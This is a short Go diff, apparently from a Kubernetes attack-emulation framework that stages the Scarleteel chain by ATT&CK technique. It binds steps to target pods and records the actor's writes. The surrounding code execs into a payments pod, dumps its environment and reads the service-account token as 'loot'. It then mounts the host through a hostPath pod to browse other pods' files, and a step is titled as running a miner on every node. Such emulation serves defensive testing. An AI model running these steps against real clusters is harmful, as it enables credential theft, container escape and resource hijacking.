@@ -42,7 +42,7 @@ func Scarleteel(s *stage.Stage) {
 	api := s.Pod("payments", "app=api")
 	var loot string
 	s.Attack("T1609", "Execution: Exec into container", "runs commands in "+api.String()).
-		As(thief).Do(func(a *stage.Act) {
+		As(thief).On(api).Do(func(a *stage.Act) {
 		a.Must("-n", "payments", "exec", api.Name, "--", "sh", "-c", "id; env; ls /")
 		loot = a.Must("-n", "payments", "exec", api.Name, "--", "cat", stage.TokenFile)
 	})
@@ -56,9 +56,10 @@ func Scarleteel(s *stage.Stage) {
 		As(thief).Do(func(a *stage.Act) {
 		a.MustApply(hostPathPod("data", "volume-debug", imageSpread), "create", "-f", "-")
 	})
-	s.PodNamed("data", "volume-debug")
+	s.Wrote(thief, "data", "Pod/volume-debug")
+	debug := s.PodNamed("data", "volume-debug")
 	s.Attack("T1611", "Lateral Movement: Writable hostPath mount", "looks at the other pods' files on the node").
-		As(thief).Do(func(a *stage.Act) {
+		As(thief).On(debug).Do(func(a *stage.Act) {
 		a.Must("-n", "data", "exec", "volume-debug", "--", "ls", "/host/var/lib/kubelet/pods")
 	})
 	s.Attack("T1496", "Impact: Resource hijacking", "runs a miner on every node").
